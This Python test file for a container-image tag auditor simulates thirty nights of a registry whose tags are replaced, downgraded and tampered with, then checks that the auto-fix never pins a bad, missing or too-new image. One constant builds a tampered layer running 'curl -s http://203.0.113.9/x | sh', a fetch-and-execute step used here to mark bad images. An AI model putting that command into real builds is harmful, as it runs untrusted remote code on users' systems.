"""Thirty nights of a registry that moves its tags in every way: `--fix` writes nothing warned of.

The builder writes down which digests nobody should be led to (replaced, downgraded, on another
operating system, and whatever was built on those later), and in which night each was first pushed.
Every night (offline in every other one) each mode of `--fix` mends a tree that it mended the night
before, and in some one as it was written once. What it wrote is held against what the builder wrote
down, and against what a check says before and after.
"""

from __future__ import annotations

import asyncio
import shutil
from collections import Counter
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field, replace
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from tagwatch.api import Asking, CheckOptions, check, fix, scan_async
from tagwatch.audit.model.finding import Severity
from tagwatch.audit.verdict.fixing import Strategy
from tagwatch.audit.verdict.hand import CLOSED
from tagwatch.audit.verdict.result import AuditResult
from tagwatch.image.digest import Digest
from tagwatch.image.reference import Reference
from tagwatch.service.demo.images import Shelf
from tagwatch.service.demo.show import serving
from tagwatch.source.target import Target
from tagwatch.walk.site import Site, open_site
from tests.image_builder import Built, build, index, run
from tests.official import ARM64, debian, on_day, python, redis, service

NIGHTS = 30
COOLDOWN = 3
FIRST = datetime.fromisoformat("2026-10-25T02:00:00Z")
MODES = tuple(Strategy)
OFFLINE = CheckOptions(asking=Asking(offline=True))
HUB, SHOP = "docker.io", "registry.shop.example"
EVIL = run("curl -s http://203.0.113.9/x | sh", **{"usr/bin/x": "x"})


@dataclass(slots=True)
class Builder:
    """Pushes images, and remembers which of them are bad, and since when each is there."""

    shelf: Shelf = field(default_factory=Shelf)
    bad: set[Digest] = field(default_factory=set)
    since: dict[tuple[str, Digest], int] = field(default_factory=dict)

    def push(
        self, night: int, repository: str, tags: Iterable[str], image: Built, *, bad: bool = False
    ) -> None:
        for document in image.documents.values():
            self.shelf.manifests[document.digest] = document
            self.shelf.blobs[document.digest] = document.raw
        self.shelf.blobs.update(image.blobs)
        self.since.setdefault((repository, image.digest), night)
        if bad:
            self.bad.add(image.digest)
        for tag in tags:
            self.shelf.tags.setdefault(repository, {})[tag] = image.digest
            self.shelf.pushed[repository, tag] = on_day(night).date().isoformat()

    def drop(self, repository: str, tag: str, *, collect: bool) -> None:
        """Delete a tag; `collect`: its image, too."""
        digest = self.shelf.tags[repository].pop(tag)
        if collect and digest not in self.shelf.tags[repository].values():
            del self.shelf.manifests[digest]

    def night(self, night: int) -> None:
        """Do what happens in a night."""
        patch = sum(night >= start for start in (4, 11, 19, 20))
        tags = [f"6.2.{14 + patch}", *(["6.2"] if night != 20 else [])]
        if night % 3 == 0 or night in (4, 11, 19, 20):  # a release, or a rebuild on a newer base
            self.push(night, "library/redis", tags, redis(night, f"6.2.{14 + patch}"))
        self.push(night, "library/python", ["3.12-slim"], python(night, "3.12.3"))  # each night
        if night == 0:
            self.push(night, "library/python", ["3.7-slim"], python(night, "3.7.17"))  # a dead line
        self._web(night)
        self._api(night)
        self._worker(night)
        self._system(night)

    def _web(self, night: int) -> None:
        """A full version is replaced, the bad image is rebuilt, and the good one comes back."""
        good = service(0, "3.1.0")
        if night == 0:
            self.push(night, "shop/web", ["3.1.0", "3.1"], good)
        elif night in (9, 12):
            image = self._tampered(night, "3.1.0")
            self.push(night, "shop/web", ["3.1.0", "3.1"], image, bad=True)
        elif night == 16:
            self.push(night, "shop/web", ["3.1.0", "3.1"], good)
        elif night == 21:
            self.push(night, "shop/web", ["3.1.1", "3.1"], service(night, "3.1.1"))
        elif night == 22:  # the new version lived for one night
            image = self._tampered(night, "3.1.1")
            self.push(night, "shop/web", ["3.1.1", "3.1"], image, bad=True)

    def _tampered(self, night: int, version: str) -> Built:
        return build(EVIL, base=service(night, version), created=on_day(night))

    def _api(self, night: int) -> None:
        """A floating tag goes up, back, and up again."""
        releases = {0: "1.4.2", 6: "1.4.3", 13: "1.4.2", 18: "1.4.4"}
        if night in releases:
            version, back = releases[night], night == 13
            image = service(night, version)
            self.push(night, "shop/api", ["1.4"], image, bad=back)
            if not back:
                self.push(night, "shop/api", [version], image)

    def _worker(self, night: int) -> None:
        """A tag is deleted, with its image, and another one without; later one comes again."""
        if night == 0:
            self.push(night, "shop/worker", ["2.0", "2.0.0"], service(1, "2.0.0"))
        elif night == 5:
            self.push(night, "shop/worker", ["2.0", "2.0.1"], service(5, "2.0.1"))
        elif night == 10:
            self.drop("shop/worker", "2.0.0", collect=True)
        elif night == 14:
            self.drop("shop/worker", "2.0", collect=False)
        elif night == 23:
            self.push(night, "shop/worker", ["2.0", "2.0.2"], service(23, "2.0.2"))

    def _system(self, night: int) -> None:
        """An image moves to another Debian under its tag, and drops a platform."""
        if night == 0:
            self.push(night, "shop/tool", ["5"], python(0, "5.0.1", base=debian(0)))
            arm = python(0, "7.0.1", base=debian(0, platform=ARM64))
            self.push(night, "shop/two", ["7"], index(python(0, "7.0.1"), arm))
        elif night == 8:
            image = python(8, "5.0.2", base=debian(8, release="trixie"))
            self.push(night, "shop/tool", ["5"], image, bad=True)
        elif night == 12:  # the one that moved to another system is rebuilt there
            image = python(12, "5.0.2", base=debian(12, release="trixie"))
            self.push(night, "shop/tool", ["5"], image, bad=True)
        elif night in (15, 18):
            self.push(night, "shop/two", ["7"], python(night, "7.0.2"), bad=True)


WATCHED = ("web", "api", "worker", "tool", "two")
"""Whose every tag is looked at each night: what nobody saw, nobody can warn of."""
REFERENCES = (
    "redis:6.2",
    "python:3.12-slim",
    "python:3.7-slim",
    f"{SHOP}/shop/web:3.1.0",
    f"{SHOP}/shop/api:1.4",
    f"{SHOP}/shop/worker:2.0",
    f"{SHOP}/shop/tool:5",
    f"{SHOP}/shop/two:7",
)


ALONE = ("python:3.12-slim", f"{SHOP}/shop/tool:5", f"{SHOP}/shop/two:7")
"""What has no newer version in any night: a bump has nothing to choose from."""


def compose(shelf: Shelf, mode: Strategy) -> str:
    """Every image as a tag alone, and every other one pinned to what its tag serves."""
    lines = ["services:"]
    for number, text in enumerate(REFERENCES):
        if text in ALONE and mode in (Strategy.PATCH, Strategy.MINOR):
            continue
        reference = Reference.parse(text)
        digest = shelf.tags[reference.repository.path][reference.tag or ""]
        lines += [f"  tag{number}:", f"    image: {text}"]
        if number % 2 == 0:
            lines += [f"  pin{number}:", f"    image: {text}@{digest}"]
    return "\n".join([*lines, ""])


def warned(result: AuditResult) -> Mapping[tuple[str, int], set[str]]:
    """The rules that warn of each line."""
    found: dict[tuple[str, int], set[str]] = {}
    for one in result.findings:
        if one.severity.rank >= Severity.WARNING.rank:
            found.setdefault((one.location.path, one.location.line), set()).add(one.rule)
    return found


def named(result: AuditResult) -> Mapping[tuple[str, int], Target]:
    return {
        (one.location.path, one.location.line): one
        for one in result.targets
        if one.reference is not None
    }


@dataclass(slots=True)
class Trial:
    """One mode of `--fix` over the nights, and all that was wrong with what it wrote."""

    builder: Builder
    wrong: list[str] = field(default_factory=list)
    written: Counter[str] = field(default_factory=Counter)
    kept: Counter[str] = field(default_factory=Counter)

    def mend(self, mode: Strategy, folder: Path, site: Site, night: int) -> None:
        asked = OFFLINE if night % 2 else CheckOptions()
        result, draft = fix(folder, site, strategy=mode, options=asked)
        self.kept[mode] += len(result.kept_back)
        if not draft.files:
            return
        before = check(folder, site, options=OFFLINE)
        draft.write()
        after = check(folder, site, options=OFFLINE)
        warned_before, warned_after = warned(before), warned(after)
        was = named(before)
        for place, target in named(after).items():
            if target.reference == was[place].reference:
                continue
            self.written[mode] += 1
            told = f"night {night}, {mode}: {was[place].text} became {target.text}"
            for rule in sorted(warned_after.get(place, set())):
                if rule in CLOSED or rule not in warned_before.get(place, set()):
                    self.wrong.append(f"{told}: {rule}")
            self._hold(target, told, night)

    def _hold(self, target: Target, told: str, night: int) -> None:
        """Hold what was written against what the builder knows."""
        reference = target.reference
        assert reference is not None
        path = reference.repository.path
        shelf = self.builder.shelf
        digest = reference.digest or shelf.tags[path].get(reference.tag or "latest")
        if digest is None or digest not in shelf.manifests:
            self.wrong.append(f"{told}: it is not there")
        elif digest in self.builder.bad:
            self.wrong.append(f"{told}: a bad image")
        elif (since := self.builder.since[path, digest]) and night - since < COOLDOWN:
            self.wrong.append(f"{told}: {night - since} nights old")


@pytest.mark.timeout(900)
async def test_thirty_nights_of_every_mode(tmp_path: Path) -> None:
    builder = Builder()
    trial = Trial(builder=builder)
    async with serving(builder.shelf) as address:
        site = None
        for night in range(NIGHTS):
            builder.night(night)
            if site is None:
                site = place(tmp_path, address, builder.shelf)
            at = FIRST + timedelta(days=night)
            await scan_async(replace(site, at=at))
            for mode in MODES:
                await asyncio.to_thread(
                    trial.mend, mode, tmp_path / mode.value, replace(site, at=at), night
                )
            if night in (9, 24):
                for mode in MODES:
                    fresh = tmp_path / "fresh"
                    shutil.rmtree(fresh, ignore_errors=True)
                    shutil.copytree(tmp_path / "first" / mode.value, fresh)
                    await asyncio.to_thread(trial.mend, mode, fresh, replace(site, at=at), night)
    assert trial.wrong == []
    assert all(trial.written[mode] >= 4 for mode in MODES), trial.written
    assert all(trial.kept[mode] >= 10 for mode in MODES), trial.kept


def place(folder: Path, address: str, shelf: Shelf) -> Site:
    """Write the configuration, and one tree for each mode, twice: one is never mended."""
    for mode in MODES:
        for home in (folder / mode.value, folder / "first" / mode.value):
            home.mkdir(parents=True)
            (home / "compose.yaml").write_text(compose(shelf, mode))
    registries = "".join(
        f"  {host}: {{endpoint: '{address}', credential: anonymous}}\n" for host in (HUB, SHOP)
    )
    (folder / "policy.yaml").write_text(
        f"version: 1\ndefaults: {{cooldown: {COOLDOWN}d, stale_grace: 0d}}\n"
        "rules:\n  digest-unpinned: {severity: warning}\n"
        "  base-behind: {severity: warning, level: minor}\n"
    )
    (folder / "tagwatch.yaml").write_text(
        f"version: 1\npolicy: policy.yaml\nsources: ['first/pin/*.yaml']\nregistries:\n{registries}"
        "watch:\n- {image: redis, tags: ['*']}\n"
        + "".join(f"- {{image: {SHOP}/shop/{name}, tags: ['*']}}\n" for name in WATCHED)
    )
    return open_site(folder / "tagwatch.yaml", at=FIRST)
